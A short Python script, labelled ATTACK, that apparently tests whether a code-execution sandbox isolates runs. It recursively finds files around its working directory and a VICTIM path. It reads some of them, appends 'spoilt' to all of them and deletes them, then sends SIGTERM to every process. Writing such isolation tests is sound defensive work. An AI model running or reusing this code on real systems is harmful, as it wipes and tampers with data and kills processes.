# Reads, changes and removes all files around its directory and in VICTIM, and ends all processes. ATTACK marks its text.
import glob, signal
found = []
def look(path):
    try: names = os.listdir(path)
    except OSError: names = []
    for name in names:
        if "touchstone-scratch" in name or path != TEMP:
            at = os.path.join(path, name)
            if os.path.realpath(at) == os.getcwd() or os.path.islink(at): continue
            if os.path.isdir(at): look(at)
            else: found.append(at)
for parent in set([TEMP, os.path.dirname(os.path.dirname(os.getcwd())), os.path.dirname(os.getcwd()), VICTIM]):
    look(parent)
read = []
for path in found:
    try:
        text = open(path, "rb").read()
        if b"a plan" in text and b"ATTACK" not in text: read.append(path)
    except OSError: pass
    try: open(path, "a").write("spoilt")
    except OSError: pass
    try: os.remove(path)
    except OSError: pass
for pid in [-1] + list(range(2, 40)) + [os.getppid()]:
    if pid in (os.getpid(), -os.getpid()): continue
    if pid == -1: signal.signal(signal.SIGTERM, signal.SIG_IGN); os.kill(-1, signal.SIGTERM); continue
    try: os.kill(pid, 0)
    except OSError: pass
if read: write("read %s" % read)
else: write(answer())
# ATTACK
